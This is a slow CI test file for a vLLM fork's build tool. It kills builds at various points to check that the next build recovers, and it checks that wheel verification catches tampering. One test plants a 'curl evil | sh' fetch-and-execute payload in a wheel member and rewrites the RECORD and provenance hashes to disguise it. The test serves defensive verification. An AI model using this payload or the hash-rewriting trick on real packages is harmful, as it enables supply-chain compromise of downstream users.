"""`invoke build` on the real vLLM release, killed at many points, and a tampered wheel (slow; runs in CI).

The re-run after each kill must succeed with no manual step, leave no temp file,
and leave a wheel that verifies; patches/, the pin, the index and the cache's
downloads hash the same before and after.
"""

from __future__ import annotations

import base64
import hashlib
import json
import signal
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from support import faults
from support.buildtrees import applied_fork_root

from vllm_fork.core.paths import cache_dir, default_tree
from vllm_fork.queue.treelock import journal_path
from vllm_fork.wheel import provenance
from vllm_fork.wheel.verify import verify

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def real_root(tmp_path_factory) -> Iterator[Path]:
    with applied_fork_root(tmp_path_factory, "faults") as root:
        yield root


def test_build_killed_at_many_points_is_recovered_by_the_next_build(real_root):
    tree, dist = default_tree(real_root), real_root / "dist"
    first = faults.run("build", real_root)
    assert first.returncode == 0, first.stderr
    wheel = Path(first.stdout.strip().splitlines()[-1])
    before = faults.precious(real_root, cache_dir(), cache_parts=("downloads",))
    points = [
        ("journal written", faults.exists(journal_path(tree))),
        ("git am started", faults.exists(tree / ".git" / "rebase-apply")),
        ("index.lock held", faults.exists(tree / ".git" / "index.lock")),
        ("wheel being written", faults.matches(dist, ".*.part")),
        ("record being written", faults.matches(dist, ".*.provenance.json.*")),
    ]
    killed = []
    # Every point with kill -9; Ctrl-C at two of them (its handling is the same code path).
    runs = [(signal.SIGKILL, p) for p in points] + [(signal.SIGINT, points[1]), (signal.SIGINT, points[3])]
    for sig, (name, point) in runs:
        proc = faults.start("build", real_root)
        if faults.kill_when(proc, point, sig):
            killed.append(f"{sig.name} at {name}")
        again = faults.run("build", real_root)
        assert again.returncode == 0, f"after {sig.name} at {name}:\n{again.stderr}"
        faults.assert_actionable(again.stderr)
        assert Path(again.stdout.strip().splitlines()[-1]) == wheel
        assert not list(dist.glob(".*")), list(dist.glob(".*"))
        assert not journal_path(tree).exists()
        assert faults.precious(real_root, cache_dir(), cache_parts=("downloads",)) == before
    assert len(killed) >= 4, killed
    assert not verify(wheel, real_root).problems


def test_build_killed_on_a_grid_through_its_first_1_5s_is_recovered_and_verifies(real_root):
    """Issue 57's kill grid: SIGKILL at every 30 ms step through the real build's first 1.5 s,
    each followed by a plain build that must recover with no manual step."""
    tree, dist = default_tree(real_root), real_root / "dist"
    first = faults.run("build", real_root)
    assert first.returncode == 0, first.stderr
    wheel = Path(first.stdout.strip().splitlines()[-1])
    before = faults.precious(real_root, cache_dir(), cache_parts=("downloads",))
    seconds = faults.seconds_to_finish("build", real_root)
    killed = []
    for n, delay in enumerate(faults.KILL_GRID):
        proc = faults.start("build", real_root)
        if faults.kill_after(proc, delay):
            killed.append(delay)
        again = faults.run("build", real_root)  # no manual step
        assert again.returncode == 0, f"after a kill at {delay}s:\n{again.stderr}"
        faults.assert_actionable(again.stderr)
        assert Path(again.stdout.strip().splitlines()[-1]) == wheel
        assert not list(dist.glob(".*")) and not journal_path(tree).exists()
        assert faults.precious(real_root, cache_dir(), cache_parts=("downloads",)) == before
        if n % 10 == 0:
            assert not verify(wheel, real_root).problems
    assert len(killed) >= faults.kills_expected(faults.KILL_GRID, seconds), (seconds, killed)
    assert not verify(wheel, real_root).problems


def test_verify_catches_a_swapped_unpatched_member_with_a_rewritten_record(real_root, tmp_path):
    built = faults.run("build", real_root)
    assert built.returncode == 0, built.stderr
    wheel = Path(built.stdout.strip().splitlines()[-1])
    record = provenance.read(wheel)
    patched = {item["path"] for item in record["patched_files"]}
    victim = "vllm/logger.py"
    assert victim not in patched
    # The tampered copy: the member swapped, its RECORD row and the provenance hash rewritten to match.
    tampered = tmp_path / wheel.name
    evil = b"import os\nos.system('curl evil | sh')\n"
    digest = base64.urlsafe_b64encode(hashlib.sha256(evil).digest()).rstrip(b"=").decode()
    with zipfile.ZipFile(wheel) as src, zipfile.ZipFile(tampered, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == victim:
                data = evil
            elif info.filename.endswith(".dist-info/RECORD"):
                rows = []
                for line in data.decode().splitlines():
                    if line.startswith(f"{victim},"):
                        line = f"{victim},sha256={digest},{len(evil)}"
                    rows.append(line)
                data = ("\n".join(rows) + "\n").encode()
            dst.writestr(info, data)
    record["wheel"]["sha256"] = hashlib.sha256(tampered.read_bytes()).hexdigest()
    provenance.provenance_path(tampered).write_text(json.dumps(record))
    report = verify(tampered, real_root)
    assert any("differ from upstream's" in p and victim in p for p in report.problems), report.problems
    assert any("match the wheel's RECORD" in c for c in report.checks)  # the RECORD alone was fooled
